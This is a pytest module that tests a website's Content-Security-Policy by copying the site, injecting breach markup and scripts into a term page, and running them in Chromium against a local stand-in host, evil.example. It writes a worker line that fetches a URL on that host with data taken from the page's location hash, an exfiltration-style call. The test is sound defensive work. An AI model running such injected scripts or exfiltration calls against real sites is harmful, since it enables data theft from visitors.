"""The real site, broken into by hand, and a browser for which evil.example is of this machine."""

import re
import shutil
from collections.abc import Iterator, Mapping
from pathlib import Path
from typing import Final

import pytest
from playwright.sync_api import Browser, sync_playwright

from tests.chromium import find
from tests.conftest import RealSite, ServeFolder
from tests.policy.breaches import LEADING, MARKUP, SCRIPTED, UNSTOPPED, Breach
from tests.policy.evil import HOST, Evil, listening
from tests.policy.visits import Visit, visiting

META: Final = re.compile(r'<meta http-equiv="Content-Security-Policy"[^>]*>')
HOLE: Final = '<article id="term"'
"""Before this stands what was broken into a term's page."""
ATTEMPT: Final = "try { await (async () => { %s; })(); } catch { }\n"


@pytest.fixture(scope="module")
def evil() -> Iterator[Evil]:
    """The stranger's server."""
    with listening() as server:
        yield server


@pytest.fixture(scope="module")
def chromium(evil: Evil) -> Iterator[Browser]:
    """A browser that finds the stranger's server under its name."""
    path = find()
    if path is None:
        pytest.skip("no Chromium: install one, or name it in the variable CHROMIUM")
    rules = f"--host-resolver-rules=MAP {HOST} 127.0.0.1:{evil.server_port}"
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(
            executable_path=path, args=["--no-sandbox", rules, "--disable-features=HttpsUpgrades"]
        )
        yield browser
        browser.close()


@pytest.fixture
def visit(chromium: Browser, evil: Evil) -> Iterator[Visit]:
    """A tab that notes which scripts ran and what the policy met."""
    evil.forget()
    with visiting(chromium, evil) as visit:
        yield visit


@pytest.fixture(scope="module")
def homes(
    real_site: RealSite, tmp_path_factory: pytest.TempPathFactory, serve_folder: ServeFolder
) -> Mapping[str, str]:
    """Serve the broken site as its pages are, with their headers too, and without any policy."""
    made = {}
    for name in ("headers", "pages", "nothing"):
        folder = tmp_path_factory.mktemp("broken") / name
        shutil.copytree(real_site.root, folder)
        break_into(folder, keeps_policy=name != "nothing")
        if name != "headers":
            (folder / "_headers").unlink()
        made[name] = serve_folder(folder)
    return made


def break_into(folder: Path, *, keeps_policy: bool) -> None:
    """Write pages with breaches beside the real ones, from a real one."""
    page = (folder / "terms/gpu/index.html").read_text()
    assert META.search(page)
    assert page.count(HOLE) == 1
    whole = page if keeps_policy else META.sub("", page)

    def write(name: str, inserted: str) -> None:
        target = folder / "breaches" / name / "index.html"
        target.parent.mkdir(parents=True)
        target.write_text(whole.replace(HOLE, inserted + HOLE))

    write("markup", "".join(map(marked, MARKUP)))
    for breach in (*LEADING, *UNSTOPPED):
        write(breach.name, marked(breach))
    write(
        "script", '<div id="room"></div><script type="module" src="/breaches/script.js"></script>'
    )
    steps = "".join(ATTEMPT % breach.written() for breach in SCRIPTED)
    script = f"const room = document.getElementById('room');\n{steps}noteEnd();\n"
    (folder / "breaches/script.js").write_text(script)
    worker = f"fetch('http://{HOST}/' + location.hash.slice(1));\n"
    (folder / "breaches/worker.js").write_text(worker)


def marked(breach: Breach) -> str:
    """Put a breach into an element of its own name, by which its report is known."""
    return f'<div data-breach="{breach.name}">{breach.written()}</div>\n'
